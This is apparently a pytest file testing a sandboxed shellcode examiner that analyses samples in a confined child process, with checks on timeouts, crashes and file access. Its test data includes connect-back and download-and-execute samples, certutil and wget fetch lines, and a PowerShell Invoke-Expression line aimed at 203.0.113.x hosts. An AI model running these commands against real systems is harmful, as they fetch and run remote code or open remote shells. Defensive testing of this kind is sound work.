"""The examination in a process of its own: what it finds arrives, and whatever becomes of it, who asked goes on."""

from __future__ import annotations

import os
import signal
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NoReturn

import pytest

from eudaemon import confinement
from eudaemon.payload.shellcode import apart
from eudaemon.payload.shellcode.apart import ANSWER_BYTES_MAX, ApartError, Bench, examine_apart
from payload.shellcode.shellcodes import connect_back_cmd, download_and_execute

CONNECTS = ["connects to 203.0.113.7:4444 (tcp)", "executes cmd over the connection"]


@pytest.fixture
def bench() -> Iterator[Bench]:
    made = Bench()
    yield made
    made.close()


def hang() -> NoReturn:
    while True:
        pass


def sleep() -> NoReturn:
    while True:
        time.sleep(60)


def crash() -> NoReturn:
    os.kill(os.getpid(), signal.SIGKILL)
    raise AssertionError


def grow() -> NoReturn:
    held = []
    while True:
        held.append(bytearray(64 * 1024 * 1024))


def talk(count: int) -> Callable[[], dict[str, Any]]:
    return lambda: {"x": "y" * (count - len('{"x": ""}'))}


def test_it_finds_what_the_examination_finds() -> None:
    assert examine_apart(connect_back_cmd())["says"] == CONNECTS


@pytest.mark.parametrize(
    ("work", "why"), [(hang, "too long"), (sleep, "too long"), (crash, "signal 9"), (grow, "failed")]
)
def test_whatever_becomes_of_it_is_told(
    work: Callable[[], dict[str, Any]], why: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(apart, "GRACE_S", 0.5)
    before = children()
    with pytest.raises(ApartError, match=why):
        examine_apart(b"", seconds_max=0.5 if work is not grow else 20.0, work=work)
    assert children() <= before  # nothing is left behind


def children() -> set[str]:
    """Return the processes that this one has begun and not seen the end of."""
    return {pid for task in Path("/proc/self/task").iterdir() for pid in (task / "children").read_text().split()}


def test_an_answer_may_be_so_long_and_no_longer() -> None:
    assert len(examine_apart(b"", work=talk(ANSWER_BYTES_MAX))["x"]) == ANSWER_BYTES_MAX - 9
    with pytest.raises(ApartError):
        examine_apart(b"", work=talk(ANSWER_BYTES_MAX + 1))


def test_a_bench_examines_one_after_the_other(bench: Bench) -> None:
    assert bench.examine(connect_back_cmd())["says"] == CONNECTS
    assert bench.examine(b"")["says"] == []
    assert bench.examine(download_and_execute())["says"][0].startswith("downloads http://203.0.113.7:8080/a.exe")


def test_a_child_that_dies_costs_one_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    def examine(data: bytes, *given: object, **more: object) -> Any:
        if data == b"die":
            os.kill(os.getpid(), signal.SIGKILL)
        return real(data, *given, **more)  # type: ignore[arg-type]

    real = apart.examine
    monkeypatch.setattr(apart, "examine", examine)
    bench = Bench()
    with pytest.raises(ApartError, match="signal 9"):
        bench.examine(b"die")
    assert bench.examine(connect_back_cmd())["says"] == CONNECTS
    bench.close()


def test_a_bench_that_is_gone_is_told(bench: Bench) -> None:
    os.kill(bench.process, 9)
    for _ in range(2):
        with pytest.raises(ApartError, match="gone"):
            bench.examine(connect_back_cmd())


def test_a_bench_ends_with_who_asks_even_in_the_middle_of_a_sample(monkeypatch: pytest.MonkeyPatch) -> None:
    real = apart.examine
    monkeypatch.setattr(
        apart, "examine", lambda data, *_, **__: hang() if data == b"hang" else real(data, apart._host())
    )
    bench = Bench()
    apart._send(bench._socket, b"hang")
    began_s = time.monotonic()
    bench.close()  # waits for its end
    assert time.monotonic() - began_s < apart.SECONDS_MAX


def test_a_bench_has_nothing_open_but_its_socket_and_works_confined() -> None:
    listening = socket.create_server(("127.0.0.1", 0))
    port = listening.getsockname()[1]

    def confine() -> None:
        assert len(os.listdir("/proc/self/fd")) == 5  # three standard ones, the socket, and the folder read here
        held = confinement.no_new_privileges() and confinement.restrict_files([], [])
        held = held and confinement.forbid_execution() and confinement.forbid_sockets()
        assert held or confinement.landlock_version() < 2
        if held:
            for wanted in (
                lambda: Path("/etc/passwd").read_text(),
                lambda: os.execv("/bin/true", ["true"]),
                socket.socket,
            ):
                with pytest.raises(PermissionError):
                    wanted()

    with listening:
        bench = Bench(confine)
        listening.close()
        assert bench.examine(connect_back_cmd())["says"] == CONNECTS
        assert bench.examine(b"wget http://203.0.113.9/x")["says"] == []
        for to_windows in (
            b"@echo off\r\ncertutil -urlcache -f http://203.0.113.9/x x.exe\r\n",
            b"$a = [Text.Encoding]::UTF32.GetString([byte[]](1, 2, 3, 4)); Invoke-Expression $a",
        ):
            assert bench.examine(to_windows)["says"] == []  # fmt: skip
        with pytest.raises(ConnectionRefusedError):  # its copy of the listening socket is closed
            socket.create_connection(("127.0.0.1", port))
        bench.close()
